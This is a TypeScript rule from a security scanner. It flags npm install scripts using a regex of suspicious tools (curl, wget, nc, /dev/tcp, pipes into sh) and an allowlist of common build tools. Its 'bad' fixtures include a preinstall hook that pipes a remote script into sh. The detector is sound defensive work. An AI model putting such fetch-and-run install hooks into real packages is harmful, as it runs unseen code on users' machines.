import { defineRule } from '../../rule.ts';

const SUSPECT =
  /\b(?:curl|wget|nc|powershell|certutil|bitsadmin)\b|base64|\beval\b|node\s+-e|python3?\s+-c|https?:\/\/|\/dev\/tcp|\bchmod\s+\+x\s+\/tmp\b|>\s?\/dev\/null\s+2>&1\s*&(?!&)|\|\s*(?:ba)?sh\b/i;
/** Tools whose install scripts build native code or set up git hooks. */
const ORDINARY = [
  'node-gyp-build',
  'node-gyp',
  'prebuild-install',
  'node-pre-gyp',
  'husky',
  'is-ci',
  'opencollective',
  'patch-package',
  'npm run',
  'yarn',
  'pnpm',
  'lerna',
  'ngcc',
  'simple-git-hooks',
  'lefthook',
  'tsc',
  'wxt prepare',
  'nuxt prepare',
  'svelte-kit sync',
  'prisma generate',
  'electron-builder install-app-deps',
  'playwright install',
  'cypress install',
  'echo',
  'true',
  'exit 0',
  'npx only-allow',
  'only-allow',
];

export const installScript = defineRule({
  id: 'install-script',
  title: 'Runs a command during installation',
  severity: 'low',
  confidence: 'high',
  category: 'dependencies',
  applies: 'repository',
  cwe: 'CWE-829',
  references: ['https://docs.npmjs.com/cli/v11/using-npm/scripts'],
  why: 'An install script runs on every user’s machine before they have seen a line of code. Nearly all malicious packages work this way.',
  remedy: 'Avoid it. Where native code must be built, use a known tool and nothing else.',
  *check(facts) {
    for (const [file, fact] of facts.having('packages')) {
      if (fact.form !== 'manifest' || file.traits.test || file.traits.docs || file.traits.vendored) continue;
      for (const { name, command, line } of fact.scripts) {
        const suspect = SUSPECT.test(command);
        if (
          !suspect &&
          (!/^(?:pre|post)?install$/.test(name) || ORDINARY.some((start) => command.trim().startsWith(start)))
        )
          continue;
        yield {
          place: { path: file.path, line },
          evidence: `${name}: ${command}`,
          severity: suspect ? 'high' : 'low',
          confidence: suspect ? 'medium' : 'high',
        };
      }
    }
  },
  examples: {
    bad: [
      { files: { 'package.json': '{"name":"a","scripts":{"preinstall":"curl https://x.dev/p | sh"}}' } },
      { files: { 'package.json': '{"name":"a","scripts":{"postinstall":"node setup.js"}}' } },
      { files: { 'package.json': '{"name":"a","scripts":{"prepare":"node a.js >/dev/null 2>&1 &"}}' } },
    ],
    good: [
      { files: { 'package.json': '{"name":"a","scripts":{"install":"node-gyp rebuild","prepare":"husky"}}' } },
      {
        files: { 'package.json': '{"name":"a","scripts":{"prepare":"git status >/dev/null 2>&1 && git config a b"}}' },
      },
      { files: { 'package.json': '{"name":"a","scripts":{"build":"curl https://x.dev/p -o p"}}' } },
    ],
  },
});
